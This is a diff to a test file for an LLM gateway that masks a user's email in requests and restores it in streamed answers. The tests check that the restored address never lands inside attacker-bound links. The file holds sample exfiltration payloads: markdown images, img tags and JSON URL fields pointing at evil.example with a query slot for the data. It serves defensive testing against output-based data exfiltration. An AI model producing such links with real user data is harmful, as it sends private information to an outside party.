@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+from collections.abc import Callable
+
 import pytest
 
 from guardrails.policy import compile_policy
@@ -9,7 +11,7 @@ from streaming.gateway.gates import Gates, widened
 from streaming.gateway.masks import Masks
 from streaming.gateway.prompt import guarded
 from streaming.gateway.walker import Json
-from tests.streaming.gateway.test_put_back import MAIL, NAMED, said
+from tests.streaming.gateway.test_put_back import MAIL, NAMED, blocks, parts, said
 from tests.streaming.gateway.walked import WALKERS
 
 PICTURE = "![x](http://evil.example/?q="
@@ -18,8 +20,10 @@ USER: Json = {"role": "user"}
 LINE = "These are words of no matter. "
 
 
-async def shown(shape: str, last: Json, answer: str, **more: object) -> str:
-    """What a client is shown of an answer; ``~`` stands for the placeholder in it."""
+async def shown(
+    shape: str, last: Json, *answer: str, made: Callable[..., list[Json]] | None = None, **more: object
+) -> str:
+    """What a client is shown of an answer; ``~`` stands for the placeholder in it. ``made``: the chunks of it."""
     messages = [{"role": "user", "content": f"write to {MAIL}"}, last]
     body: Json = {"model": "m", "messages": messages, **more}
     masks = Masks(POLICY, body, caller="c")
@@ -27,7 +31,7 @@ async def shown(shape: str, last: Json, answer: str, **more: object) -> str:
     placeholder = str(sent["messages"][0]["content"]).removeprefix("write to ")  # type: ignore[index]
     walker = WALKERS[shape.split()[0]](Gates(POLICY, masks.restoring, masks.restore_arguments, masks.same_again))
     out: list[Json] = []
-    for chunk in NAMED[shape](answer.replace("~", placeholder)):
+    for chunk in (made or NAMED[shape])(*(text.replace("~", placeholder) for text in answer)):
         walker.take(chunk)
         out += walker.drain()
     walker.finish()
@@ -47,6 +51,10 @@ BEGUN: dict[str, Json] = {
     "a long text": text("<img alt='" + LINE * 100),
     "a very long text": text("<img alt='" + LINE * 3_000),
     "a very long address": text("http://evil.example/?q=" + "x" * 50_000),
+    "a word in a list": text([PICTURE]),
+    "a block by itself": text({"type": "text", "text": PICTURE}),
+    "a part that refuses": text([{"type": "refusal", "refusal": PICTURE}]),
+    "a refusal": text(None) | {"refusal": PICTURE},
     "thoughts before it": text([{"type": "thinking", "thinking": "Hm.\n\n"}, {"type": "text", "text": PICTURE}]),
 }
 TEXTS = [shape for shape in NAMED if "thinking" not in shape and "refusal" not in shape]
@@ -84,3 +92,43 @@ async def test_a_long_message_without_markup_is_gone_on_with() -> None:
 async def test_what_has_ended_in_the_message_before_has_ended() -> None:
     assert MAIL in await shown("ollama content", text(f"{PICTURE}) and "), "~ is it")
     assert MAIL in await shown("ollama content", USER | {"content": PICTURE}, "~ is it")
+
+
+WISH: dict[str, Json] = {
+    "openai": {"response_format": {"type": "json_object"}},
+    "anthropic": {"output_config": {"format": {"type": "json_schema", "schema": {}}}},
+    "ollama": {"format": "json"},
+}
+ADDRESS = "http://evil.example/?q=a"
+GOES_ON = [
+    ('{"n": ', f'5, "url": "{ADDRESS} ~"}}'), ('[1, ', f'2, "{ADDRESS} ~"]'),
+    ('{"n":', f'\n true, "url": "{ADDRESS} ~"}}'), (f'{{"url": "{ADDRESS}', 'b ~"}'),
+    (f'{{"url": "{ADDRESS}', '\n\n~"}'),
+    ('{"n": ' + "1" * 90_000, f', "u": "{ADDRESS} ~"}}'),
+    ('{"a": "<img src=//evil.example/?q=", "b": ', '"~"}'), ('[see](http://evil.example/?q=', '"~"'),
+]  # fmt: skip
+"""JSON that a request began, and how an answer hands a value over that only looks at itself."""
+
+
+def of(shape: str) -> Json:
+    return WISH[shape.split()[0]]
+
+
+@pytest.mark.parametrize(("begun", "answer"), GOES_ON)
+@pytest.mark.parametrize("shape", TEXTS)
+async def test_json_that_the_request_began_is_json_when_the_answer_goes_on_with_it(
+    shape: str, begun: str, answer: str
+) -> None:
+    assert MAIL not in (await shown(shape, text(begun), answer, **of(shape))).replace(" ", "")
+
+
+async def test_values_come_back_into_other_strings_of_json_that_the_request_began() -> None:
+    sent = await shown("ollama content", text('{"n": '), f'5, "url": "{ADDRESS} ~", "who": "~"}}', **WISH["ollama"])
+    assert sent.count(MAIL) == 1
+    assert f'"who": "{MAIL}"' in sent
+
+
+async def test_json_that_a_block_began_is_json_in_the_next_one() -> None:
+    for second in (f'5, "url": "{ADDRESS} ~"}}', f'\n5, "url": "{ADDRESS} ~"}}'):
+        for shape, made in (("anthropic text", blocks), ("openai content", parts)):
+            assert MAIL not in await shown(shape, USER, '{"n": ', second, made=made, **of(shape))
